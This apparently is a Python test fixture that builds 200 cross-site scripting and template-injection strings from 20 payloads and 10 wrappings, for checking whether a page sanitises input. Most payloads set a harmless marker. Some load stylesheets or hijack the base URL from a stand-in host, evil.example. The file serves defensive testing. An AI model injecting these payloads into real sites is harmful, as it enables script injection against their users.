"""Two hundred strings that a careless page would run, load or break at."""

PAYLOADS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "javascript:window.hacked=1",
    "<body onload=window.hacked=1>",
    "<a href=javascript:window.hacked=1>x</a>",
    "<object data=javascript:window.hacked=1></object>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext></table><img src=x onerror=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "${window.hacked=1}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "<base href=//evil.example/>",
    "<form action=javascript:window.hacked=1><button>x</button></form>",
    "</textarea><script>window.hacked=1</script>",
    "<!--<img src='--><img src=x onerror=window.hacked=1>",
    "\u202e<script>window.hacked=1</script>",
)
WRAPPINGS = ("{}", '"{}"', "'{}'", "`{}`", "</td>{}", "]]>{}", "{}<!--", "&lt;{}", "\\u003c{}", "__proto__{}")

STRINGS = [wrapping.replace("{}", payload) for payload in PAYLOADS for wrapping in WRAPPINGS]
